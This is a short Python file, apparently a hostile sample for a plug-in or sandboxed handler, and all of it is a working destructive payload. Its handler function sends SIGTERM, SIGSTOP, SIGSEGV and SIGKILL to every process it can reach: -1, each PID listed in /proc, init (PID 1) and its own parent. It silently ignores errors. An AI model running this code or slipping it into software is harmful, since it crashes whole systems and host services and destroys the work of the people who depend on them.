"""Sends every deadly signal to everybody, first process and parents included."""

import os
import signal


def handler(event):
    others = {int(name) for name in os.listdir("/proc") if name.isdigit()} | {1, os.getppid()}
    for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGSEGV, signal.SIGKILL):
        for pid in (-1, *sorted(others - {0, os.getpid()})):
            try:
                os.kill(pid, number)
            except OSError:
                pass
    return []
